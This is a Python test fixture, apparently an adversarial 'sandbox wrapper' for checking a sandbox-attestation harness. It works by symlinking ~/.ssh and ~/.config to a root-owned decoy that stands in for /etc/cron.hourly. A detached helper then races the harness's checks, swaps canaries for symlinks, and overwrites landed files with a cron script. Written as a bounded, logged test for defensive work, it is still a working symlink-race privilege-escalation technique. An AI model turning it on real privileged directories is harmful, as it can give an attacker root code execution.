#!/usr/bin/env python3
"""A hostile "sandbox wrapper" (issue 23): it re-points the payload home's dirs at a root dir.

The harness starts it as the payload user, as it starts any command wrapper. Before it runs
its payload (bare: no sandbox at all) it:

  a. replaces `~/.ssh` (where fs_read_secrets plants its canaries) and `~/.config` (a canary
     class of fs_write_outside) with symlinks to $ATTACKER_DECOY, a root-owned directory that
     stands for /etc/cron.hourly (the test makes it; never a real system directory);
  b. leaves a detached helper (double fork, setsid, fresh environment) that, every few ms
     until $ATTACKER_HELPER_SECONDS pass or the drop dir's `stop` file appears, re-plants the
     links and watches the decoy: whatever lands there owned by the payload user is "swapped"
     (its bytes replaced with a cron-style script) and the links are re-pointed elsewhere, so
     that a cleanup that follows the path again misses what it made.

With $ATTACKER_MODE=race nothing is planted before the harness first looks, so its check at
planting time finds plain directories. Then each wrapper that finds canaries in ~/.ssh (the
harness planted its cell's a moment ago) swaps any canary it can for a symlink into the
decoy, re-points each LINKED dir at the decoy (the harness's dir set aside), and leaves a
helper that flips each LINKED name between a fresh real directory and the link every
PERIOD_S while its cell runs, racing every check-then-use of the harness, its cleanup and
the next cell's planting.

Every step lands as one JSON line in $ATTACKER_DROP/attacks.jsonl. The wrapper never writes to
stdout before the exec: the payload's start marker and JSON line reach the harness unchanged.
Stdlib only; every step is wrapped so that a surprise never keeps the payload from running.
Usage: wrapper.py PAYLOAD_ARGV...   (the helper re-execs it as: wrapper.py --helper)
"""

from __future__ import annotations

import contextlib
import json
import os
import pwd
import stat
import sys
import time
from pathlib import Path
from typing import NoReturn

DROP_ENV = "ATTACKER_DROP"
DECOY_ENV = "ATTACKER_DECOY"
MODE_ENV = "ATTACKER_MODE"
SECONDS_ENV = "ATTACKER_HELPER_SECONDS"
RECORDS = "attacks.jsonl"
STOP = "stop"
HELPER_LOCK = "helper.lock"
# The payload home's dirs the harness plants in (sandbox_attest/catalog/fs/).
LINKED = (".ssh", ".config")
# Where the links point once something landed: a dir of the payload user's own.
ELSEWHERE = ".attacker-elsewhere"
SWAPPED = b"#!/bin/sh\n# FORGED-BY-SYMLINK-ATTACKER: this would run as root from cron\n"
PERIOD_S = 0.005


def drop_dir() -> Path:
    """The directory the attack records go to (the spec's [env] set gives it)."""
    return Path(os.environ.get(DROP_ENV, "/nonexistent-attacker-drop"))


def home() -> Path:
    """The payload user's home, as the account database says (the harness plants there)."""
    return Path(pwd.getpwuid(os.getuid()).pw_dir)


def record(attack: str, target: str, **fields: object) -> None:
    """Append one result line; O_APPEND keeps lines whole across concurrent cells."""
    line = {"attack": attack, "target": target, "pid": os.getpid(), "uid": os.getuid()}
    line["time"] = time.time()
    line.update(fields)
    data = (json.dumps(line, sort_keys=True) + "\n").encode()
    with contextlib.suppress(OSError):
        fd = os.open(drop_dir() / RECORDS, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o666)
        try:
            os.write(fd, data)
        finally:
            os.close(fd)


def point(name: str, target: str) -> str:
    """Make ~/name a symlink to `target`, atomically; "ok" or the errno's name."""
    link = home() / name
    tmp = home() / f".{name.lstrip('.')}.attacker-{os.getpid()}"
    try:
        with contextlib.suppress(FileNotFoundError):
            tmp.unlink()
        tmp.symlink_to(target)
        st = link.lstat() if os.path.lexists(link) else None
        if st is not None and stat.S_ISDIR(st.st_mode):
            # A real dir is moved aside (rename cannot replace a directory by a link).
            link.rename(home() / f"{name}.attacker-moved-{time.time_ns()}")
        tmp.rename(link)
    except OSError as exc:
        return type(exc).__name__
    return "ok"


def plant_links(target: str) -> dict[str, str]:
    """Point every LINKED dir of the home at `target`."""
    return {name: point(name, target) for name in LINKED}


def landed(decoy: Path) -> list[Path]:
    """What in the decoy belongs to the payload user: what the harness made and gave it."""
    found = []
    with contextlib.suppress(OSError):
        for entry in decoy.iterdir():
            with contextlib.suppress(OSError):
                if entry.lstat().st_uid == os.getuid():
                    found.append(entry)
    return found


def swap(entry: Path) -> str:
    """Replace the bytes of a landed file (or of the canary in a landed dir)."""
    target = entry
    if entry.is_dir() and not entry.is_symlink():
        files = [p for p in entry.iterdir() if p.is_file()]
        if not files:
            return "empty dir"
        target = files[0]
    try:
        target.write_bytes(SWAPPED)
    except OSError as exc:
        return type(exc).__name__
    return "ok"


def to_real_dir(name: str) -> str:
    """Make ~/name a fresh real directory of ours, replacing the link (never the harness's)."""
    link = home() / name
    fresh = home() / f"{name}.attacker-fresh-{time.time_ns()}"
    try:
        fresh.mkdir(mode=0o755)
        if link.is_symlink():
            link.unlink()
        fresh.rename(link)  # fails when a real dir is there already: then it stays
    except OSError as exc:
        with contextlib.suppress(OSError):
            fresh.rmdir()
        return type(exc).__name__
    return "ok"


def to_link(name: str, target: str) -> str:
    """Make ~/name the symlink again; a real dir there is removed if ours and empty, else moved."""
    link = home() / name
    try:
        if link.is_dir() and not link.is_symlink():
            try:
                link.rmdir()  # our own empty fresh dir
            except OSError:
                # The harness's dir (its canary in it): set aside, so the path no longer leads
                # there, exactly the swap its check after the cell must catch.
                link.rename(home() / f"{name}.attacker-moved-{time.time_ns()}")
        tmp = home() / f".{name.lstrip('.')}.attacker-{os.getpid()}"
        with contextlib.suppress(FileNotFoundError):
            tmp.unlink()
        tmp.symlink_to(target)
        tmp.rename(link)
    except OSError as exc:
        return type(exc).__name__
    return "ok"


def planted() -> bool:
    """Whether ~/.ssh is a real directory with something in it (the home starts clean)."""
    ssh = home() / ".ssh"
    try:
        return ssh.is_dir() and not ssh.is_symlink() and any(ssh.iterdir())
    except OSError:
        return False


def swap_canaries(decoy: Path) -> list[str]:
    """Replace each harness canary in our own dirs by a symlink into the decoy."""
    done = []
    for name in LINKED:
        directory = home() / name
        if directory.is_symlink() or not directory.is_dir():
            continue
        with contextlib.suppress(OSError):
            for entry in directory.iterdir():
                if ".attacker" not in entry.name and not entry.is_symlink():
                    moved = directory / f"{entry.name}.attacker-original"
                    entry.rename(moved)
                    entry.symlink_to(decoy / entry.name)
                    done.append(str(entry))
    return done


def race(decoy: Path, deadline: float) -> tuple[str, int]:
    """Flip every LINKED name between our real dir and the link to the decoy until the end."""
    rounds, flips = 0, {"ok": 0}
    while time.monotonic() < deadline:
        if (drop_dir() / STOP).exists():
            return "stop-file", rounds
        for name in LINKED:
            result = to_link(name, str(decoy)) if rounds % 2 else to_real_dir(name)
            flips[result] = flips.get(result, 0) + 1
        for swapped in swap_canaries(decoy):
            record("canary-swapped", swapped)
        for entry in landed(decoy):
            record("landed", str(entry), swap=swap(entry))
        rounds += 1
        if rounds % 400 == 0:
            record("race-progress", "self", rounds=rounds, flips=flips)
        time.sleep(PERIOD_S)
    return "deadline", rounds


def helper() -> int:
    """The detached helper: keep the links planted; swap and re-point once something lands."""
    decoy = Path(os.environ[DECOY_ENV])
    if os.environ.get(MODE_ENV) == "race":
        seconds = min(float(os.environ.get(SECONDS_ENV, "30")), 600.0)
        record("helper-start", "self", bound_s=seconds, mode="race")
        reason, rounds = race(decoy, time.monotonic() + seconds)
        record("helper-done", "self", reason=reason, rounds=rounds)
        return 0
    seconds = min(float(os.environ.get(SECONDS_ENV, "30")), 600.0)
    deadline = time.monotonic() + seconds
    record("helper-start", "self", bound_s=seconds)
    elsewhere = home() / ELSEWHERE
    with contextlib.suppress(OSError):
        elsewhere.mkdir(mode=0o700)
    swapped: set[str] = set()
    rounds, reason = 0, "deadline"
    while time.monotonic() < deadline:
        if (drop_dir() / STOP).exists():
            reason = "stop-file"
            break
        found = [p for p in landed(decoy) if p.name not in swapped]
        if found:
            # Re-point first: the harness's cleanup, if it follows the path again, now looks
            # in a dir of ours and misses what it left in the decoy.
            record("helper-repoint", str(elsewhere), results=plant_links(str(elsewhere)))
            for entry in found:
                record("landed", str(entry), swap=swap(entry))
                swapped.add(entry.name)
        elif not swapped:
            for name, result in plant_links(str(decoy)).items():
                if result != "ok":
                    record("helper-plant", name, result=result)
        rounds += 1
        time.sleep(PERIOD_S)
    record("helper-done", "self", reason=reason, rounds=rounds, swapped=sorted(swapped))
    return 0


def start_helper() -> None:
    """Double fork a detached helper: one per run when planting, one per wrapper when racing.

    The harness kills what a cell's wrapper leaves behind when the cell ends (its cell group,
    sandbox_attest/host/cellgroup.py), so a racing helper lives as long as its own cell: each
    wrapper starts its own, and it races the host's look at that cell and the next.
    """
    if os.environ.get(MODE_ENV) != "race":
        try:
            lock = os.open(drop_dir() / HELPER_LOCK, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
        except OSError:
            return
        os.close(lock)
    child = os.fork()
    if child:
        os.waitpid(child, 0)
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        env = {
            DROP_ENV: str(drop_dir()),
            DECOY_ENV: os.environ.get(DECOY_ENV, "/nonexistent-attacker-decoy"),
            MODE_ENV: os.environ.get(MODE_ENV, "plant"),
            SECONDS_ENV: os.environ.get(SECONDS_ENV, "30"),
            "PATH": "/usr/bin:/bin",
        }
        script = str(Path(__file__).resolve())
        os.execve(sys.executable, [sys.executable, script, "--helper"], env)  # noqa: S606
    finally:
        os._exit(1)


def main(argv: list[str]) -> int:
    """Plant the links, leave the helper, then exec the payload unconfined."""
    if argv[:1] == ["--helper"]:
        return helper()
    if not argv:
        sys.stderr.write("usage: wrapper.py PAYLOAD_ARGV...\n")
        return 2
    try:
        decoy = os.environ[DECOY_ENV]
        if os.environ.get(MODE_ENV) != "race":
            record("links", str(home()), uid=os.getuid(), results=plant_links(decoy))
            start_helper()
        elif planted():
            # The harness planted this cell's canaries a moment ago (its check passed): swap
            # what can be swapped, re-point the dirs, and leave the helper flipping them while
            # the cell runs. Where nothing is planted (the availability check) nothing is
            # touched, so that the next cell's planting meets plain directories.
            record("canaries-swapped", str(home()), swapped=swap_canaries(Path(decoy)))
            results = {name: to_link(name, decoy) for name in LINKED}
            record("repointed", str(home()), results=results)
            start_helper()
    except Exception as exc:  # a surprise must not keep the payload from running
        record("error", "links", error=repr(exc))
    record("exec", "payload", argv=argv)
    return run_payload(argv)


def run_payload(argv: list[str]) -> NoReturn:
    """Become the payload, with no sandbox at all."""
    os.execvp(argv[0], argv)  # noqa: S606  (the harness's own probe argv, no shell)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
